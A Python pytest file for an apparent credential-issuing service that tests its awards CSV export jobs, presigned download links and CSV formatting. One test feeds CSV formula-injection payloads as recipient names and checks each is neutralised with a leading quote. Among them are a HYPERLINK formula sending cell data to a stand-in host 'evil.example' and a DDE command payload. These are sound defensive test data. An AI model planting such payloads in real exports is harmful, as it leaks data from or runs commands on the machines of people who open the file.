"""Reports and exports (issue 15 item 3): the awards CSV and the organization ZIP,
run as jobs on the bulk queue's worker, with a link valid one hour."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from urllib.parse import parse_qs, urlparse

import boto3
import pytest

from chalicelib.services import exports
from tests.conftest import body, list_bucket, scan_table, sent_mail
from tests.helpers import active_template, auth, issue, new_issuer, post

QUEUE = "laurel-test-bulk"


def drain(client, *, repeat: bool = False) -> int:
    """Deliver everything on the bulk queue to the worker, as Lambda would (`repeat`:
    every message twice, as SQS may)."""
    sqs = boto3.client("sqs", region_name="us-east-1")
    url = sqs.get_queue_url(QueueName=QUEUE)["QueueUrl"]
    delivered = 0
    while True:
        got = sqs.receive_message(QueueUrl=url, MaxNumberOfMessages=5).get("Messages", [])
        if not got:
            return delivered
        bodies = [m["Body"] for m in got]
        if repeat:
            bodies += bodies
        event = client.events.generate_sqs_event(message_bodies=bodies, queue_name=QUEUE)
        result = client.lambda_.invoke("bulk_worker", event).payload
        assert result == {"batchItemFailures": []}, result
        for m in got:
            sqs.delete_message(QueueUrl=url, ReceiptHandle=m["ReceiptHandle"])
        delivered += len(got)


def fetch(url: str) -> bytes:
    """The object a presigned link names (moto answers the link's bucket and key)."""
    parsed = urlparse(url)
    key = parsed.path.split("/", 2)[2] if parsed.path.count("/") >= 2 else parsed.path.lstrip("/")
    bucket = "laurel-test-assets"
    if parsed.netloc.startswith(bucket + "."):
        key = parsed.path.lstrip("/")
    from urllib.parse import unquote

    return boto3.client("s3", region_name="us-east-1").get_object(Bucket=bucket, Key=unquote(key))["Body"].read()


def rows_of(data: bytes) -> list[dict]:
    assert data.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte-order mark: Excel would garble accented names"
    assert b"\r\n" in data and b"\n" not in data.replace(b"\r\n", b""), "lines must end in CRLF"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.fixture()
def org(client):
    _, key = new_issuer()
    return key, active_template(client, key)


def export(client, key, **payload):
    res = post(client, "/exports", key, payload)
    assert res.status_code == 202, res.body
    drain(client)
    return body(client.http.get(f"/exports/{body(res)['id']}", headers=auth(key)))


def test_awards_csv_neutralises_formula_payloads(client, org):
    key, tpl = org
    payloads = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\t=1",
                " =1+1", "\uff1d1+1"]
    for n, name in enumerate(payloads):
        assert issue(client, key, tpl, f"p{n}@example.com", first_name=name, last_name="X").status_code == 201
    job = export(client, key, kind="awards")
    assert job["state"] == "completed", job
    names = {r["recipient_name"] for r in rows_of(fetch(job["url"]))}
    # the API trims the names it stores; each comes back as text, behind a quote
    assert names == {"'" + p.strip() + " X" for p in payloads}, names

